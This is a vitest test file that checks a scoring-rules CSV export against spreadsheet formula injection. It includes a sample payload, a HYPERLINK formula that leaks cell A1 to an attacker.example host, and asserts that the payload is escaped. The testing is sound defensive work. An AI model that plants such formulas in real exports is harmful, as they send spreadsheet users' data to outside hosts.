import { describe, expect, it } from 'vitest';
import { scoringRulesCsv } from '../../../shared/document/rules-sheet';
import type { Agreement } from '../../../shared/model/agreement';
import { readyAgreement } from '../../fixtures/agreements';
import { csvFormulaPayloads, csvPlainNumbers, csvQuotingPayloads } from '../../fixtures/injection/payloads';

/** RFC 4180 as a spreadsheet's CSV import reads it (written here, not the app's parser): quoted cells, doubled quotes, CRLF rows. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.startsWith('\ufeff') ? text.slice(1) : text;
  for (let at = 0; at < body.length; at += 1) {
    const character = body[at]!;
    if (quoted) {
      if (character === '"' && body[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else if (character === '"') quoted = false;
      else cell += character;
    } else if (character === '"' && cell === '') quoted = true;
    else if (character === ',') {
      row.push(cell);
      cell = '';
    } else if (character === '\r' || character === '\n') {
      // CRLF, or a bare CR or LF: spreadsheets end the row at any of them outside quotes.
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      if (character === '\r' && body[at + 1] === '\n') at += 1;
    } else cell += character;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/**
 * What Excel, LibreOffice and Google Sheets do with a cell they import: one
 * that starts (after spaces) with = + - @ (or their full-width forms), or with
 * a tab or CR, is a formula, unless it is a plain number; a leading ' makes it text.
 */
function readAsFormula(cell: string): boolean {
  if (cell.startsWith("'")) return false;
  if (/^-?\d+(\.\d+)?$/.test(cell)) return false;
  return /^[\s\u3000]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r]/.test(cell);
}

/** An agreement whose criteria, signals and values carry `payloads`, the points `numbers`. */
function poisoned(payloads: readonly string[], numbers: readonly string[] = []): Agreement {
  const agreement = readyAgreement();
  const template = agreement.icp[0]!;
  agreement.icp = payloads.map((payload, index) => ({ ...template, id: `icp-${index}`, label: payload, attribute: payload, match: { kind: 'in', values: [payload] }, effect: 'points', points: 5 }));
  agreement.icp.push(...numbers.map((number, index) => ({ ...template, id: `number-${index}`, label: `Number ${index}`, attribute: 'size', match: { kind: 'boolean' as const, value: true }, effect: 'disqualifier' as const, points: Number(number) })));
  const signal = agreement.engagement.signals[0]!;
  agreement.engagement.signals = payloads.map((payload, index) => ({ ...signal, id: `signal-${index}`, key: payload, name: payload }));
  return agreement;
}

describe('the rules CSV cannot attack the spreadsheet that opens it (OWASP CSV injection)', () => {
  it('neutralises every formula payload: the cell reads back as text, a quote and then exactly what was typed; a negative number stays a number', () => {
    const csv = scoringRulesCsv(poisoned(csvFormulaPayloads, csvPlainNumbers));
    const rows = readCsv(csv);
    const formulas = rows.flat().filter(readAsFormula);
    expect(formulas).toEqual([]);
    const cells = new Set(rows.flat());
    for (const payload of csvFormulaPayloads) {
      // Name and field columns hold the payload alone.
      expect(cells.has(`'${payload}`), JSON.stringify(payload)).toBe(true);
      expect(cells.has(payload), JSON.stringify(payload)).toBe(false);
    }
    // A disqualifier's negative points stay a number the spreadsheet can sum, unquoted (the OWASP trade-off, docs/security.md).
    const points = rows.filter((row) => row[1]?.startsWith('Number ')).map((row) => row[4]);
    expect(points).toEqual(csvPlainNumbers.map((number) => String(Number(number))));
    expect(csv).toMatch(/,-50,/);
    // The payload exactly: never raw in the file.
    const raw = scoringRulesCsv(poisoned(['=HYPERLINK("http://attacker.example/?leak="&A1,"Open")']));
    expect(raw).not.toMatch(/(^|,)=HYPERLINK/m);
    expect(raw).toContain(`"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Open"")"`);
  });

  it('keeps a cell that tries to leave its quotes one cell with exactly its text, and every row seven cells', () => {
    const rows = readCsv(scoringRulesCsv(poisoned(csvQuotingPayloads)));
    expect(rows.every((row) => row.length === 7)).toBe(true);
    const names = rows.filter((row) => row[0] === 'Fit: points').map((row) => row[1]);
    expect(names).toEqual([...csvQuotingPayloads]);
    expect(rows.flat().filter(readAsFormula)).toEqual([]);
  });
});
